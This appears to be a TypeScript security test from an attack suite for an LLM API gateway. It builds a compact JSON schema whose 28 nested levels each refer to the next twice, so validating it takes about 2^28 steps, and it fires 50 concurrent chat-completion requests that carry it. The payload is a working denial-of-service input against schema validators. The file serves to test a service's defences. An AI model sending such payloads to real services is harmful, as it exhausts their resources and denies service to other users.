import type { Attack } from '../attack.js';
import { goodAnswer } from '../../support/provider-responses.js';

const REQUESTS = 50;
const DEPTH = 28;

/** Each level of the schema refers to the next one twice, so that 2 KB take 2^28 steps. */
function schema(): object {
  const levels = Array.from({ length: DEPTH }, (_, level) => {
    const next = { $ref: `#/$defs/d${level + 1}` };
    return [`d${level}`, { allOf: [next, next] }];
  });
  return { $ref: '#/$defs/d0', $defs: Object.fromEntries([...levels, [`d${DEPTH}`, {}]]) as object };
}

export const attack: Attack = {
  title: 'answers are requested in the form of a schema that takes minutes to check',
  run: async ({ url, userKey, provider }) => {
    provider.script(goodAnswer('{}'));
    const response_format = { type: 'json_schema', json_schema: { name: 'a', schema: schema() } };
    const body = JSON.stringify({ messages: [{ role: 'user', content: 'Hello' }], response_format });
    const headers = { authorization: `Bearer ${userKey}`, 'content-type': 'application/json' };
    const call = () => fetch(`${url}/api/v1/llm/chat/completions`, { method: 'POST', headers, body });
    await Promise.all(Array.from({ length: REQUESTS }, async () => (await call()).text()));
  },
};
